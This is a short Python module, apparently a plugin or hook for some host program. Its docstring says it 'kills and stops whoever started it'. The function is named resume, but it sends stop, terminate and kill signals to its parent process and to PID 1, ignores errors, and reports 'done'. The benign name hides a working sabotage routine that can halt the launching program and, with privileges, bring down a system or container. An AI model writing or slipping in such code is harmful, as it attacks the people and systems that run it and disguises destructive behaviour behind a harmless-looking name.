"""Kills and stops whoever started it."""

import os
import signal


def resume(world):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return "done"
